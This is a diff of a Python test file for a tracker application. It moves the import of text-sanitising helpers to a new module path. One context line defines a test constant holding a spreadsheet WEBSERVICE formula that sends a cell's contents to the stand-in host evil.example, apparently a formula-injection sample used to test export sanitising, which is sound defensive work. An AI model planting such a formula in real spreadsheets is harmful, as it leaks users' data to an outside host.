@@ -13,9 +13,9 @@ import pytest
 from openpyxl import load_workbook
 from sqlmodel import select
 
+from tracker.core.safe_text import cell_value, xml_text
 from tracker.inspections.models import Inspection, InspectionUnit
 from tracker.org.models import Unit
-from tracker.safe_text import cell_value, xml_text
 from tracker.tickets.models import Indicator, Ticket
 
 WEBSERVICE = '=WEBSERVICE("http://evil.example/?"&B2)'
